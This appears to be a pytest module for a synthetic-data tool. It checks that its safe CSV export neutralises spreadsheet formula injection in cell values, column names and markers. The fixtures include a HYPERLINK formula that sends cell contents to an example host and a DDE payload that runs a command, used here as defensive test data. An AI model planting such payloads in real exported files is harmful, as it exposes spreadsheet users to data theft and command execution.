"""Names and categories that a spreadsheet would take for formulas."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path

import pyarrow as pa
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from pyarrow import parquet

from dpntk.common.schema.columns.column import Column
from dpntk.common.schema.columns.dtypes import NUMBER
from dpntk.common.schema.columns.kinds import ColumnKind, Missing
from dpntk.common.schema.csv_format import CsvFormat
from dpntk.common.schema.drafts.draft import Draft
from dpntk.common.schema.table import TableSchema
from dpntk.generate.tables.export import write_csv
from tests.conftest import Command, refused

FETCH = '=HYPERLINK("http://example.org/?"&A1)'
RUN = "@cmd|' /C calc'!A0"
FORMULAS = (FETCH, RUN, "+1+1", "-1-1", "\t=1", "\r=1", "a;=1", 'a,"=1"', "\ufeff=1", "\uff1d1")
PLAIN = ("harmless", "a=b", "1-2", "-5", "")
GAIN = "=gain"
HOSTILE = TableSchema(
    (
        Column(GAIN, ColumnKind.INTEGER, "int64", -9, -1, missing=Missing.INDICATOR),
        Column("+what", ColumnKind.CATEGORICAL, "string", categories=FORMULAS + PLAIN),
        Column("-code", ColumnKind.CATEGORICAL, "int64", categories=("-1", "-2")),
    ),
    "-code",
    csv=CsvFormat(missing=("@none",)),
)


@pytest.fixture
def release(dpntk: Command, tmp_path: Path) -> None:
    """`release.h5` of a table whose schema somebody hostile has written."""
    rows = [
        {GAIN: -1 - number % 9 if number % 5 else None, "+what": what, "-code": -1 - number % 2}
        for number, what in enumerate((FORMULAS + PLAIN) * 8)
    ]
    parquet.write_table(pa.Table.from_pylist(rows), tmp_path / "a.parquet")
    (tmp_path / "schema.toml").write_text(Draft(HOSTILE).to_toml())
    made = dpntk("embed", "a.parquet", "--schema", "schema.toml", "--width", "3")
    assert made.code == 0, made.stderr
    assert dpntk("release", "--eps", "50", "--delta", "1e-3").code == 0


def cells(folder: Path, separator: str = ",") -> Iterator[str]:
    with (folder / "table.csv").open(encoding="utf-8", newline="") as file:
        for row in csv.reader(file, delimiter=separator):
            yield from row


def computed(cell: str, separator: str = ",", read: str = ",") -> bool:
    """Whether a spreadsheet that reads with a separator might compute a cell."""
    is_number = NUMBER.fullmatch if read == separator else NUMBER.match  # which others follow then
    text = cell.lstrip("\ufeff \t\r\n")  # what some programs skip
    return text[:1] in tuple("=+-@\uff1d") and not is_number(text)


@pytest.mark.usefixtures("hasty_rows")
def test_data_are_faithful_unless_the_user_asks(
    dpntk: Command, release: None, tmp_path: Path
) -> None:
    made = ("generate", "--steps", "2", "--batch", "20", "-n", "200")
    assert dpntk(*made).code == 0
    assert dpntk(*made, "--safe-csv", "-o", "safe").code == 0
    again = ("generate", "--from", "synthetic", "-n", "200", "--seed", "0", "--safe-csv")
    assert dpntk(*again, "-o", "again").code == 0
    faithful = set(cells(tmp_path / "synthetic"))
    assert faithful >= {*FORMULAS, *PLAIN, *(column.name for column in HOSTILE.columns)}
    for folder in ("safe", "again"):
        for read in ",;\t|":  # whatever the spreadsheet takes
            found = set(cells(tmp_path / folder, read))
            assert not any(computed(cell, read=read) for cell in found)
        found = set(cells(tmp_path / folder))
        assert found >= {f"'{FETCH}", f"'{RUN}", "'=gain", "'@none", *PLAIN, "-1", "-9"}
        table = parquet.read_table(tmp_path / folder / "table.parquet")
        assert table.equals(parquet.read_table(tmp_path / "synthetic" / "table.parquet"))


def test_a_distilled_set_is_safe_as_well(dpntk: Command, release: None, tmp_path: Path) -> None:
    arguments = ("--schema", "schema.toml", "--per-class", "3", "--steps", "2", "--eps", "5")
    distilled = dpntk("distill", "a.parquet", *arguments, "--delta", "1e-3", "-o", "d.h5")
    assert distilled.code == 0, distilled.stderr
    assert dpntk("generate", "d.h5", "--safe-csv").code == 0
    assert "'=gain" in set(cells(tmp_path / "synthetic"))
    assert not any(map(computed, cells(tmp_path / "synthetic")))


@settings(max_examples=200)
@given(
    texts=st.lists(
        st.tuples(*[st.text("=+-@;,|\t\r\n\"' \ufeffa1", max_size=9)] * 2), min_size=1, max_size=4
    ),
    written=st.sampled_from(",;|\t:'"),
    read=st.sampled_from(",;|\t"),
)
@example(texts=[("-1", "\r"), ("-1", "\r")], written=",", read=";")  # a line break, then a number
def test_nothing_is_computed_whatever_the_texts(
    texts: list[tuple[str, str]], written: str, read: str, tmp_path_factory: pytest.TempPathFactory
) -> None:
    names = ("one", "two")
    categories = [tuple(dict.fromkeys(values)) for values in zip(*texts, strict=True)]
    schema = TableSchema(
        tuple(
            Column(name, ColumnKind.CATEGORICAL, "string", categories=some)
            for name, some in zip(names, categories, strict=True)
        ),
        None,
        csv=CsvFormat(separator=written),
    )
    table = pa.table(dict(zip(names, zip(*texts, strict=True), strict=True)))
    path = tmp_path_factory.getbasetemp() / "texts.csv"
    write_csv(table, schema, path, safe=True)
    rows = csv.reader(io.StringIO(path.read_bytes().decode(), newline=""), delimiter=read)
    assert not any(computed(cell, written, read) for row in rows for cell in row)


def test_a_separator_that_makes_formulas_is_refused(tmp_path: Path) -> None:
    schema = TableSchema(HOSTILE.columns, "-code", csv=CsvFormat(separator="="))
    with pytest.raises(Exception, match="begins a formula"):
        write_csv(pa.table({}), schema, tmp_path / "a.csv", safe=True)
    assert not (tmp_path / "a.csv").exists()


def test_images_have_no_cells(dpntk: Command, folder: Path, tmp_path: Path) -> None:
    dpntk("embed", folder, "--width", "5")
    dpntk("release", "--eps", "1")
    refused(dpntk("generate", "--safe-csv"), "--safe-csv: the release is of images")
    assert not (tmp_path / "synthetic").exists()
